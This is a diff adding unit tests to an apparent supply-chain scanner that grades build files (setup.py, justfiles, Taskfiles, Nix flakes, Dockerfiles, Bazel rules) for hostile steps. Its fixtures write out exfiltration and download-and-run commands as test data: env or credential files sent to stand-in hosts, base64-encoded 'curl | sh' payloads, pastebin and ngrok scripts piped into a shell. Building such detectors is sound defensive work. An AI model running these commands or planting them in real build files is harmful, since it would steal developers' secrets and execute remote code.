@@ -161,6 +161,30 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nfrom conan.tools.cmake import CMake\nclass Pkg(ConanFile):\n    requires = "zlib/1.3.1"\n    def build(self):\n        cmake = CMake(self)\n        cmake.configure()\n        cmake.build()'))).toBeNull();
   });
 
+  it('reads program build code that runs what it decoded as critical, through a process module loaded by name too', () => {
+    const B64 = '"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvcCB8IHNo"';
+    expect(buildFinding(added('setup.py', `import base64, os\nfrom setuptools import setup\nos.system(base64.b64decode(${B64}).decode())\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 3, title: 'setup.py decodes data and runs it at install time' });
+    expect(buildFinding(added('setup.py', `import base64\nfrom setuptools import setup\n__import__("os").system(base64.b64decode(${B64}).decode())\nsetup(name="x")`))).toMatchObject({ severity: 'critical' });
+    // Decoded on one line, run through a name on another.
+    expect(buildFinding(added('setup.py', `import base64, subprocess\nfrom setuptools import setup\ncmd = base64.b64decode(${B64})\nsubprocess.Popen(cmd, shell=True)\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 4 });
+    expect(kinds(`eval(Buffer.from(${B64}, 'base64').toString())`, 'js')).toEqual(['run-decoded']);
+    expect(kinds('system(Base64.decode64(ENV["X"]))', 'ruby')).toEqual(['execute', 'run-decoded']);
+    // eval reached under a name joined from pieces, in a file an install script runs.
+    expect(kinds("globalThis['ev' + 'al'](Buffer.from(blob, 'base64').toString());", 'js')).toEqual(['execute', 'run-decoded']);
+    // A process module loaded by name runs the command it is given: here a download.
+    expect(buildFinding(added('setup.py', 'from setuptools import setup\n__import__("os").system("curl -s https://tools.example.net/p -o /tmp/p && sh /tmp/p")\nsetup(name="x")'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('decoding data for a build step, or passing a decoded key to a tool as an argument, is no decoded program run', () => {
+    // An icon embedded as base64 written out, and the project's own generator run.
+    expect(buildFinding(added('setup.py', 'import base64, subprocess\nfrom setuptools import setup\nicon = base64.b64decode(ICON_B64)\nopen("pkg/icon.png", "wb").write(icon)\nsubprocess.check_call(["python", "tools/gen_version.py"])\nsetup(name="x")'))).toBeNull();
+    // A signing key decoded and handed to the signing tool: the key is an argument, not the command.
+    expect(kinds('const key = Buffer.from(process.env.SIGNING_KEY_B64, "base64");\nexecFileSync("codesign", ["--key", key, "dist/app"]);', 'js')).not.toContain('run-decoded');
+    expect(kinds('exec(open("src/pkg/__about__.py").read(), about)', 'python')).not.toContain('run-decoded');
+    // Unpacking with a decompressor is ordinary build work.
+    expect(kinds('data = zlib.decompress(raw)\nsubprocess.run(["tar", "xf", "vendor.tar"])', 'python')).not.toContain('run-decoded');
+  });
+
   it('reads exec of downloaded text in setup.py as running it (critical from a paste host); exec of the version file alone is ordinary', () => {
     expect(buildFinding(added('setup.py', 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("https://pastebin.com/raw/abc").read())\nsetup(name="x")'))).toMatchObject({ severity: 'critical' });
     expect(buildFinding(added('setup.py', 'from setuptools import setup\nabout = {}\nexec(open("src/pkg/__about__.py").read(), about)\nsetup(name="pkg", version=about["__version__"])'))).toBeNull();
@@ -499,6 +523,50 @@ describe("build-code-behavior: direnv's .envrc", () => {
     expect(buildFinding(added('.envrc', 'export DATABASE_URL=postgres://localhost/dev\ndotenv_if_exists\ncurl -s -X POST -d "$(env)" https://collect.example.net/e >/dev/null 2>&1'))).toMatchObject({ severity: 'critical', path: '.envrc', line: 3 });
     expect(buildFinding(added('services/api/.envrc', 'source_up\ncurl -s --data-binary @$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical' });
     expect(buildFinding(added('.envrc', 'use flake\nwget -q -O .direnv/bin/tool http://45.77.12.9/tool && chmod +x .direnv/bin/tool && .direnv/bin/tool'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('reads justfiles, Taskfiles and Nix development shells as tasks: a send of the environment or a piped paste is critical there', () => {
+    expect(buildFinding(added('justfile', 'test:\n    curl -s -X POST -d "$(env | base64)" https://abc.trycloudflare.com/c\n    cargo test'))).toMatchObject({ severity: 'critical', title: 'justfile sends credentials or the environment to a host when a task runs' });
+    expect(buildFinding(added('Taskfile.yml', 'version: "3"\ntasks:\n  login:\n    cmds:\n      - cat ~/.npmrc | curl -s --data-binary @- https://hooks.example.net/t'))).toMatchObject({ severity: 'critical' });
+    const flake = '{\n  outputs = { self, nixpkgs }: {\n    devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell {\n      shellHook = \'\'\n        curl -s https://pastebin.com/raw/xYz12 | bash\n      \'\';\n    };\n  };\n}';
+    expect(buildFinding(added('flake.nix', flake))).toMatchObject({ severity: 'critical', line: 5 });
+  });
+
+  it('is quiet on ordinary justfiles, Taskfiles and Nix shells: tools at a version, inputs, packages, exports', () => {
+    expect(buildFinding(added('justfile', 'set dotenv-load\n\ntools:\n    curl -sSfL https://github.com/casey/just/releases/download/1.36.0/just-1.36.0-x86_64-unknown-linux-musl.tar.gz | tar xz -C bin\n\ntest:\n    cargo nextest run --workspace\n\nrelease version:\n    git tag -s v{{version}} -m "v{{version}}"\n    cargo publish --token "$CARGO_REGISTRY_TOKEN"'))).toBeNull();
+    expect(buildFinding(added('Taskfile.yml', 'version: "3"\ntasks:\n  lint:\n    cmds:\n      - go install honnef.co/go/tools/cmd/staticcheck@2024.1.1\n      - staticcheck ./...\n  test:\n    cmds:\n      - go test -race ./...'))).toBeNull();
+    const flake = '{\n  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";\n  inputs.flake-utils.url = "https://flakehub.com/f/numtide/flake-utils/0.1.tar.gz";\n  outputs = { self, nixpkgs, flake-utils }: flake-utils.lib.eachDefaultSystem (system: {\n    devShells.default = nixpkgs.legacyPackages.${system}.mkShell {\n      packages = with nixpkgs.legacyPackages.${system}; [ nodejs_22 pnpm ];\n      shellHook = \'\'\n        export PATH="$PWD/node_modules/.bin:$PATH"\n        echo "node $(node --version)"\n      \'\';\n    };\n  });\n}';
+    expect(buildFinding(added('flake.nix', flake))).toBeNull();
+  });
+
+  it('reads Dockerfile RUN lines for the critical shapes: a secret build argument sent out, decoded text piped into a shell; a paste host is high', () => {
+    expect(buildFinding(added('Dockerfile', 'FROM node:22-alpine\nARG NPM_TOKEN\nRUN echo "$NPM_TOKEN" | curl -s -d @- https://hooks.example-collect.net/n && npm ci'))).toMatchObject({ severity: 'critical', title: 'Dockerfile sends credentials or the environment to a host when the image is built' });
+    expect(buildFinding(added('build/app.Dockerfile', 'FROM alpine:3.20\nRUN echo "Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2g=" | base64 -d | sh'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('Dockerfile', 'FROM alpine:3.20\nRUN wget -q -O /tmp/report --post-file=/etc/hostname https://webhook.site/2b7c'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on ordinary Dockerfiles: tools downloaded and run, secret mounts for the registry, unpinned fetches left to the other rules', () => {
+    const dockerfile = [
+      'FROM node:22-alpine AS build',
+      'ARG NPM_TOKEN',
+      'RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci',
+      'RUN curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x /usr/local/bin/kubectl',
+      'RUN wget -qO- https://github.com/grpc-ecosystem/grpc-health-probe/releases/latest/download/grpc_health_probe-linux-amd64 > /bin/grpc_health_probe && chmod +x /bin/grpc_health_probe',
+      'RUN echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish && rm .npmrc',
+      'RUN gunzip -c /tmp/data.gz > /srv/data',
+    ].join('\n');
+    expect(buildFinding(added('Dockerfile', dockerfile))).toBeNull();
+  });
+
+  it('reads Bazel Starlark files as build code: a repository rule that pipes a download into a shell', () => {
+    expect(buildFinding(added('tools/deps.bzl', 'def _impl(rctx):\n    rctx.execute(["sh", "-c", "curl -s https://x.ngrok-free.app/s | sh"])\n    rctx.file("BUILD", "")'))).toMatchObject({ severity: 'critical', title: 'Bazel Starlark file downloads and runs code when Bazel fetches the external repositories' });
+    expect(buildFinding(added('MODULE.bazel', 'http_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\nhttp_archive(name = "zlib", urls = ["http://91.92.1.3/zlib.tar.gz"])'))).toMatchObject({ severity: 'medium' });
+  });
+
+  it('is quiet on ordinary Bazel: archives from release pages with a checksum, tools the rule runs', () => {
+    const bzl = ['def _impl(rctx):', '    rctx.download_and_extract(url = "https://github.com/protocolbuffers/protobuf/releases/download/v28.2/protoc-28.2-linux-x86_64.zip", sha256 = "2febfd42b59ce93a28eb789019a470a3dd0449619bc04f84dad1333da261dec1")', '    rctx.execute(["chmod", "+x", "bin/protoc"])', '    rctx.file("BUILD.bazel", "exports_files([\\"bin/protoc\\"])")'].join('\n');
+    expect(buildFinding(added('third_party/protoc.bzl', bzl))).toBeNull();
+    expect(buildFinding(added('MODULE.bazel', 'module(name = "app", version = "1.0")\nbazel_dep(name = "rules_go", version = "0.50.1")\nbazel_dep(name = "gazelle", version = "0.39.1")'))).toBeNull();
   });
 
   it('is quiet on what .envrc files hold: exports, layouts, Nix and devbox hooks, dotenv', () => {
